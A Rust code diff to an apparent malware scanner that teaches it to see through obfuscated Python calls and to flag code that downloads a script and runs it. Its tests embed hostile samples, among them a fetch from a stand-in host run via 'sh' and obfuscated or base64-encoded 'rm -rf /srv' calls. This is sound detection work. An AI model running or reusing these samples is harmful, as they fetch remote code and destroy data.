@@ -796,6 +796,53 @@ fn fold_decoders(t: &mut Vec<Tok>) {
     }
 }
 
+/// Python's `getattr(MODULE, NAME)(…)` with a literal `NAME` (also built with `+`, the
+/// module imported in place: `getattr(__import__('o'+'s'), 'sys'+'tem')(…)`) is the call
+/// `MODULE.NAME(…)`: the callee becomes that one name.
+fn fold_getattr(t: &mut Vec<Tok>) {
+    let mut k = 0;
+    while k + 1 < t.len() {
+        let rewrite = {
+            let sc = Scan {
+                t,
+                lang: Lang::Python,
+                vars: Vec::new(),
+            };
+            let is_getattr =
+                matches!(&t[k], Tok::Id(i) if i == "getattr") && t[k + 1] == Tok::P('(');
+            let args = if is_getattr {
+                sc.call_args(k)
+            } else {
+                Vec::new()
+            };
+            let close = if is_getattr { sc.group_end(k + 1) } else { 0 };
+            match (&args[..], t.get(close)) {
+                ([(ma, mb), (na, nb)], Some(Tok::P('('))) => match sc.eval(*na, *nb) {
+                    Val::Str(name) if !name.is_empty() => {
+                        let module = match &t[*ma..*mb] {
+                            [Tok::Id(i), Tok::P('('), ..] if last(i) == "__import__" => {
+                                match sc.eval(ma + 2, sc.group_end(ma + 1).saturating_sub(1)) {
+                                    Val::Str(m) => m,
+                                    _ => "?".into(),
+                                }
+                            }
+                            [Tok::Id(m)] => m.clone(),
+                            _ => "?".into(),
+                        };
+                        Some((close, format!("{module}.{name}")))
+                    }
+                    _ => None,
+                },
+                _ => None,
+            }
+        };
+        if let Some((close, callee)) = rewrite {
+            t.splice(k..close, [Tok::Id(callee)]);
+        }
+        k += 1;
+    }
+}
+
 fn looks_url(s: &str) -> bool {
     let l = s.trim();
     l.starts_with("http://")
@@ -834,6 +881,9 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
     lx.run();
     let mut toks = lx.out;
     fold_decoders(&mut toks);
+    if lang == Lang::Python {
+        fold_getattr(&mut toks);
+    }
     let mut sc = Scan {
         t: &toks,
         lang,
@@ -1325,8 +1375,19 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
             }
         }
     }
+    // a download written to a file the body then runs (`open(p,'wb').write(urlopen(u).read());
+    // os.system('sh ' + p)`) is fetched code run
+    let runs_written = out.iter().any(|f| match f {
+        Found::Write(p) => out.iter().any(|g| match g {
+            Found::Shell { text, .. } => text.contains(p.as_str()),
+            Found::Argv(v) => v.iter().flatten().any(|a| a == p),
+            _ => false,
+        }),
+        _ => false,
+    });
     if fetching
         && (exec_dyn
+            || runs_written
             || out
                 .iter()
                 .any(|f| matches!(f, Found::Shell { dynamic: true, .. })))
@@ -1452,6 +1513,24 @@ mod tests {
         );
         assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
         assert!(f.contains(&Found::RunFetched));
+        // a download written to a file the body then runs
+        assert!(py("import urllib.request as u, os; open('/tmp/x.sh','wb').write(u.urlopen('http://e.example/x.sh').read()); os.system('sh /tmp/x.sh')").contains(&Found::RunFetched));
+        assert!(!py("import urllib.request as u, os; open('/tmp/x.json','wb').write(u.urlopen('https://e.example/x').read()); os.system('ls /tmp')").contains(&Found::RunFetched));
+        // getattr(MODULE, NAME)(…) with a literal name is MODULE.NAME(…)
+        assert!(
+            py("getattr(__import__('o'+'s'),'sys'+'tem')('rm -rf '+'/srv')").contains(
+                &Found::Shell {
+                    text: "rm -rf /srv".into(),
+                    dynamic: false
+                }
+            )
+        );
+        assert!(py("import os; getattr(os, 'system')(cmd)")
+            .iter()
+            .any(|f| matches!(f, Found::Shell { dynamic: true, .. })));
+        assert!(py("getattr(obj, name)(x); getattr(os, 'getcwd')()")
+            .iter()
+            .all(|f| !matches!(f, Found::Shell { .. })));
         // a decoder on a module imported in place decodes too
         assert!(
             py("exec(__import__('base64').b64decode('b3Muc3lzdGVtKCdybSAtcmYgL3NydicpCg=='))")
